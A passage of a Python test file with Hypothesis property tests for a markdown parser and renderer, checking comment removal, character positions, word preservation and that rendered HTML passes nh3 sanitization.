    shown = [body.render(text, 4), body.plain(text), *(one.markdown for one in (read.before, *read.sections))]
    if "<code>" not in shown[0]:
        assert not [one for one in shown if "ẩn" in one]


@settings(max_examples=600, deadline=None, derandomize=True)
@given(
    st.lists(st.sampled_from((*PIECES, *HIDDEN, "[x]", "[x]: https://x.vn\n", "<!", "--")), max_size=20).map("".join)
)
def test_no_comment_is_left_in_a_section_and_every_letter_has_its_place(text: str) -> None:
    read = parse(text)
    lines = text.split("\n")
    for section in (read.before, *read.sections):
        if not any(problem.rule == "body-html" for problem in read.problems):
            assert closed_comments(section.markdown) == []
        for offset, char in enumerate(section.written):
            if char.isalpha():
                line, column = section.position(offset)
                assert lines[line - 1][column - 1] == char


@settings(max_examples=600, deadline=None, derandomize=True)
@given(markdown_like)
def test_no_word_is_lost_without_a_problem_and_nothing_unsafe_comes_out(text: str) -> None:
    read = parse(text)
    html = body.render(text, 4)
    page = Page(html)
    assert (
        nh3.clean(
            html,
            tags=set(ALLOWED),
            attributes={tag: set(names) - {"rel"} for tag, names in ALLOWED.items()},
            link_rel="noopener noreferrer nofollow",
        )
        == html
    )
    if not read.problems:
        written = comments.cut(text).published.lines
        for first, end in definitions(text):
            written[first:end] = [""] * (end - first)
        letters = Counter(char for char in "".join(written) if char.isalpha())
        assert not letters - Counter("".join(page.words))
    for problem in read.problems:
        assert 1 <= problem.line <= text.count("\n") + 1
        assert 1 <= problem.column <= len(text.split("\n")[problem.line - 1]) + 1


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from("<>[]()!`*_#|\n&;:/\"'"), max_size=80))
def test_any_text_renders_to_allowed_elements(text: str) -> None:
    parse(text)
    Page(body.render(text, 4))
    body.plain(text)


def test_sections_and_title_together_hold_every_line_of_the_body() -> None:
    text = "đầu\n\n# Tên\n\nmở\n\n## 1. Một\n\nlạc\n\n### 1.1. Hai\n\nnội\n\n# Cuối\n\nsót\n"
    read = parse(text)
    kept = "\n".join([read.before.text, *(f"{one.title}\n{one.text}" for one in read.sections)])
    assert {word for word in re.findall(r"\w+", text) if word.isalpha()} <= set(re.findall(r"\w+", kept))
